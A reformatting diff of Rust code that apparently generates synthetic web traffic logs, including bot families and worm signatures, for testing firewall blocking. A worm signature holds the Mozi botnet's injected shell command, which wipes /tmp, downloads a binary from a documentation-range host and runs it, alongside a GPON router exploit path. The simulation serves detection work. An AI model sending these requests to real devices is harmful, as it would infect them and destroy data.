@@ -253,11 +253,7 @@ pub fn family_names() -> Vec<&'static str> {
 
 /// Worm signatures: wire requests sent by every infected address of the signature.
 const WORMS: &[(&str, &str, &[Wire])] = &[
-    (
-        "mozi-jaws",
-        "Hello, world",
-        &[("GET", "/shell", "cd+/tmp;rm+-rf+*;wget+http://192.0.2.77/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws")],
-    ),
+    ("mozi-jaws", "Hello, world", &[("GET", "/shell", "cd+/tmp;rm+-rf+*;wget+http://192.0.2.77/Mozi.a;chmod+777+Mozi.a;/tmp/Mozi.a+jaws")]),
     ("gpon", "-", &[("POST", "/GponForm/diag_Form", "images/")]),
     (
         "iis-worm",
@@ -281,13 +277,7 @@ impl<'a> Planner<'a, '_> {
         let mut out = Vec::new();
         for fam in FAMILIES {
             let ip = self.hosting_ip(rng);
-            let v = self.actor(
-                ip,
-                fam.ua,
-                Kind::Library,
-                rng.below(model::REGIONS.len() as u64) as usize,
-                rng,
-            );
+            let v = self.actor(ip, fam.ua, Kind::Library, rng.below(model::REGIONS.len() as u64) as usize, rng);
             let n = self.scaled(rng.range(30, 45), 20);
             // 10-15 minutes: blocked families reach cf_waf_blocks' 10 refusals per 5 minutes.
             let dur = rng.range(10, 15) * MIN;
@@ -302,14 +292,8 @@ impl<'a> Planner<'a, '_> {
             for i in 0..n {
                 let t = s + i * step + rng.below(step / 2 + 1);
                 let mut r = v.req(&c, t, rng);
-                let late = fam.outcome == Outcome::BlockedThenThrough
-                    && i >= switch
-                    && !evasions.is_empty();
-                let (method, stem, query) = if late {
-                    *rng.pick(evasions)
-                } else {
-                    *rng.pick(plain)
-                };
+                let late = fam.outcome == Outcome::BlockedThenThrough && i >= switch && !evasions.is_empty();
+                let (method, stem, query) = if late { *rng.pick(evasions) } else { *rng.pick(plain) };
                 r.method = method;
                 r.stem = wire(stem);
                 r.query = wire(query);
@@ -334,11 +318,7 @@ impl<'a> Planner<'a, '_> {
                         missing += 1;
                     }
                     _ => {
-                        let ctype = if stem.starts_with("/api/") {
-                            JSON
-                        } else {
-                            HTML
-                        };
+                        let ctype = if stem.starts_with("/api/") { JSON } else { HTML };
                         r.ok(ctype, rng.range(2_000, 30_000), Res::Miss, rng);
                         through += 1;
                     }
@@ -376,18 +356,8 @@ impl<'a> Planner<'a, '_> {
             per_sig[k] += 1;
             let (_, ua, reqs) = WORMS[k];
             let ip = self.book.random_public(rng);
-            let mut v = self.actor(
-                ip,
-                ua,
-                Kind::Library,
-                rng.below(model::REGIONS.len() as u64) as usize,
-                rng,
-            );
-            v.ver = if rng.chance(0.5) {
-                "HTTP/1.0"
-            } else {
-                "HTTP/1.1"
-            };
+            let mut v = self.actor(ip, ua, Kind::Library, rng.below(model::REGIONS.len() as u64) as usize, rng);
+            v.ver = if rng.chance(0.5) { "HTTP/1.0" } else { "HTTP/1.1" };
             let c = v.connect(rng);
             let mut t = rng.range(lo, hi - 1);
             for &(method, stem, query) in reqs {
@@ -425,13 +395,7 @@ impl<'a> Planner<'a, '_> {
         let mut failures = 0u64;
         for _ in 0..n_ips {
             let ip = self.book.random_public(rng);
-            let mut v = self.actor(
-                ip,
-                ua,
-                Kind::Desktop,
-                rng.below(model::REGIONS.len() as u64) as usize,
-                rng,
-            );
+            let mut v = self.actor(ip, ua, Kind::Desktop, rng.below(model::REGIONS.len() as u64) as usize, rng);
             v.ver = "HTTP/1.1";
             let c = v.connect(rng);
             let k = if rng.chance(0.4) { 2 } else { 1 };
